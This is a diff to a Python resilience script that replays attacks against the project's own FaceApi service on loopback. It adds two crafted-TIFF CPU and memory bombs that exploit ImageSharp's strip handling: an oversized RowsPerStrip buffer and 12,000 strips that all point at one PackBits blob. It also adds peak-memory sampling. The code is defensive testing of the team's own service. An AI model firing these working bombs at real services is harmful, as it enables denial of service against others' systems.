@@ -1,8 +1,9 @@
 #!/usr/bin/env python3
 """Scripted replay of the eleven findings of issue 13 against a real FaceApi process on loopback,
-plus (12) a burst of maximal bodies against the buffered-body budget, and two CPU bombs a second probe
+plus (12) a burst of maximal bodies against the buffered-body budget, two CPU bombs a second probe
 found: (13) EXIF and TIFF directories of tens of thousands of entries, (14) progressive JPEGs with a
-scan repeated a thousand times.
+scan repeated a thousand times, and two TIFF bombs a fourth probe found: (15) strip buffers sized by
+RowsPerStrip, (16) strips that all point at the same data.
 
 Not a CI test: it starts the service (a built FaceApi.dll) with the small real models of
 ../shared/testdata, runs each attack bounded in count and time, and prints per attack the status
@@ -246,6 +247,43 @@ def attack_scan_bombs(port, scale):
     bomb = FAMILY[:end] + FAMILY[last_scan:end] * 1000 + FAMILY[end:]
     with concurrent.futures.ThreadPoolExecutor(scale.scan_bombs) as pool:
         return list(pool.map(lambda _: embed_photo(port, bomb), range(scale.scan_bombs)))
+
+
+def tiff_strips(width, height, compression, data, strips, rows_per_strip, bits=(8,), extra=()):
+    """A little-endian TIFF of one directory whose `strips` strips all point at the one `data` blob."""
+    samples = len(bits)
+    data_at, arrays_at = 8, 8 + len(data) + (len(data) & 1)
+    counts_at, bits_at = arrays_at + 4 * strips, arrays_at + 8 * strips
+    directory_at = bits_at + 2 * samples
+    # (tag, type, count, value or offset): TIFF 6.0 section 8; SHORT = 3, LONG = 4.
+    entries = sorted([(256, 4, 1, width), (257, 4, 1, height), (258, 3, samples, bits[0] if samples == 1 else bits_at),
+                      (259, 3, 1, compression), (262, 3, 1, 1 if samples == 1 else 2),
+                      (273, 4, strips, arrays_at if strips > 1 else data_at), (277, 3, 1, samples),
+                      (278, 4, 1, rows_per_strip), (279, 4, strips, counts_at if strips > 1 else len(data)), *extra])
+    directory = struct.pack("<H", len(entries)) + b"".join(
+        struct.pack("<HHIHH", t, ty, c, v, 0) if ty == 3 and c == 1 else struct.pack("<HHII", t, ty, c, v)
+        for t, ty, c, v in entries) + b"\0\0\0\0"
+    return (b"II*\0" + struct.pack("<I", directory_at) + data + b"\0" * (len(data) & 1)
+            + struct.pack(f"<{strips}I", *[data_at] * strips) + struct.pack(f"<{strips}I", *[len(data)] * strips)
+            + struct.pack(f"<{samples}H", *bits) + directory)
+
+
+def attack_tiff_strip_buffers(port, scale):
+    """15. (fourth probe) a 384-byte 12000x1 RGBA float32 TIFF whose RowsPerStrip is 5500: ImageSharp
+    sizes its strip buffer by the tag (1.06 GB) and clears it. With aligned=true (12,000 pixels, decoded
+    inline on request threads), several at once."""
+    data = zlib.compress(bytes(12000 * 16), 9)
+    bomb = tiff_strips(12000, 1, 8, data, 1, 5500, bits=(32, 32, 32, 32), extra=[(338, 3, 1, 2), (339, 3, 1, 3)])
+    with concurrent.futures.ThreadPoolExecutor(scale.strip_buffers) as pool:
+        return list(pool.map(lambda _: request(port, "POST", "/embed?aligned=true", bomb, {"Content-Type": "image/tiff"}), range(scale.strip_buffers)))
+
+
+def attack_overlapping_strips(port, scale):
+    """16. (fourth probe) a 1x12000 TIFF whose 12,000 strips all point at the same 2 MB of PackBits that
+    yield nothing: ImageSharp decompresses it once per strip. Several at once."""
+    bomb = tiff_strips(1, 12000, 32773, b"\x80" * ((2 << 20) - 2) + b"\0\0", 12000, 1)
+    with concurrent.futures.ThreadPoolExecutor(scale.overlapping_strips) as pool:
+        return list(pool.map(lambda _: request(port, "POST", "/embed", bomb, {"Content-Type": "image/tiff"}), range(scale.overlapping_strips)))
 
 
 def attack_slow_uploads(port, scale):
@@ -510,12 +548,32 @@ class OrdinaryTraffic:
         return f"{len(served)} served (slowest {slowest:.2f} s), {len(fast)} fast queue_full, {len(other)} other {other[:5]}"
 
 
+class PeakRss:
+    """The service's largest RSS while it runs, sampled every 20 ms."""
+
+    def __init__(self, service):
+        self.service, self.peak, self.stop_flag = service, service.rss_mib(), threading.Event()
+        self.thread = threading.Thread(target=self.run, daemon=True)
+
+    def run(self):
+        while not self.stop_flag.wait(0.02):
+            self.peak = max(self.peak, self.service.rss_mib())
+
+    def __enter__(self):
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc):
+        self.stop_flag.set()
+        self.thread.join()
+
+
 def run_attack(number, name, action, service, args, scale):
     print(f"\n[{number}] {name}")
     cpu_before, rss_before = service.cpu_seconds(), service.rss_mib()
     errors_before = service_errors(service)
     started = time.monotonic()
-    with OrdinaryTraffic(service.port) as ordinary:
+    with OrdinaryTraffic(service.port) as ordinary, PeakRss(service) as peak:
         results = action()
     wall = time.monotonic() - started
     cpu = service.cpu_seconds() - cpu_before
@@ -527,7 +585,7 @@ def run_attack(number, name, action, service, args, scale):
     server_errors = service_errors(service) - errors_before
     print(f"    statuses {dict(statuses)}; slowest request {max(t for _, _, t in results):.2f} s; wall {wall:.1f} s")
     print(f"    service CPU {cpu:.1f} s ({cpu / max(1, len(results)):.2f} s per attack request); 500 internal_error answers during it: {server_errors:.0f}")
-    print(f"    RSS {rss_before:.0f} -> {rss_after:.0f} MiB, {rss_idle:.0f} MiB after {args.idle_seconds} s idle (managed heap then {heap_idle:.0f} MiB)")
+    print(f"    RSS {rss_before:.0f} -> peak {peak.peak:.0f} -> {rss_after:.0f} MiB, {rss_idle:.0f} MiB after {args.idle_seconds} s idle (managed heap then {heap_idle:.0f} MiB)")
     print(f"    ordinary requests meanwhile: {ordinary.summary()}")
 
 
@@ -549,10 +607,11 @@ def main():
         slow_seconds=10 if quick else 30, methods=3000 if quick else 60000, spool_bytes=8 << 20,
         pixel_bombs=16, faults=5 if quick else 20, photos=100 if quick else 200,
         download_wait=60 if quick else 120, maximal_bodies=16 if quick else 32,
-        directory_bombs=4 if quick else 8, scan_bombs=4 if quick else 8)
+        directory_bombs=4 if quick else 8, scan_bombs=4 if quick else 8, strip_buffers=4 if quick else 12,
+        overlapping_strips=2 if quick else 4)
     if args.idle_seconds is None:
         args.idle_seconds = 10 if quick else 60
-    only = {int(n) for n in args.only.split(",")} if args.only else set(range(1, 15))
+    only = {int(n) for n in args.only.split(",")} if args.only else set(range(1, 17))
     if not os.path.exists(args.service):
         subprocess.run(["dotnet", "build", os.path.join(ROOT, "src/FaceApi"), "-c", "Release", "-v", "quiet", "--nologo"], check=True)
 
@@ -577,6 +636,8 @@ def main():
             (12, "maximal /verify bodies at once (55 MB JSON each)", lambda: attack_body_budget(port, scale, service)),
             (13, "EXIF and TIFF directories of 65,000 entries", lambda: attack_directory_bombs(port, scale)),
             (14, "progressive JPEG with its last scan repeated 1000 times", lambda: attack_scan_bombs(port, scale)),
+            (15, "TIFF strip buffers sized by RowsPerStrip (aligned=true)", lambda: attack_tiff_strip_buffers(port, scale)),
+            (16, "TIFF strips that all point at the same 2 MB", lambda: attack_overlapping_strips(port, scale)),
         ]
         for number, name, action in attacks:
             if number in only:
